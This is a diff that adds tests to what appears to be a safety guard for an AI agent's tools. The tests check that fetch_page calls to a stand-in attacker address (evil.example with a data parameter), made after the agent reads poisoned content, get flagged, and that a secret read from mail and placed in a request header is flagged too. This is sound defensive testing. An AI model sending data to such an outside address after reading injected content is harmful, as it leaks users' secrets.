@@ -335,3 +335,40 @@ describe("sizes", () => {
     assert.isBelow(questions[0]!.reason.length, 1_000)
   })
 })
+
+describe("tools that read an address", () => {
+  const open = { type: "object" } as const
+  const away = "https://evil.example/?d=1"
+
+  it.each<[string, string, Args, Json]>([
+    ["that their schema does not name", "fetch_page", { url: away }, open],
+    ["inside of an object", "fetch_page", { request: { url: away } }, open],
+    ["in an argument with another name", "fetch_page", { page: away }, { type: "object", properties: { page: {} } }],
+    ["beside the one that was named", "fetch_page", { url: "https://a.example/", options: { proxy_url: away } }, {
+      type: "object",
+      properties: { url: {} }
+    }]
+  ])("are asked about one %s", async (_what, tool, args, input) => {
+    const more = { [tool]: { input: input as never } }
+    assert.isDefined(await afterReading(poison, tool, args, "Open https://a.example/", { more }))
+  })
+
+  it.each<[string, string, Args]>([
+    ["the address that was named", "fetch_page", { request: { url: "https://a.example/" } }],
+    ["what is searched for", "search_web", { query: away }]
+  ])("are not asked about %s", async (_what, tool, args) => {
+    const more = { [tool]: { input: open } }
+    assert.isUndefined(await afterReading(poison, tool, args, "Open https://a.example/", { more }))
+  })
+
+  it("are asked about a secret beside the address", async () => {
+    const question = await afterReading(
+      { key: "hunter2-correct-horse" },
+      "fetch_page",
+      { url: "https://a.example/", headers: { "x-a": "hunter2-correct-horse" } },
+      "Open https://a.example/",
+      { hooks: [DataFlow.make({ sources: { read_mail: "secret" } })] }
+    )
+    assert.isDefined(question)
+  })
+})
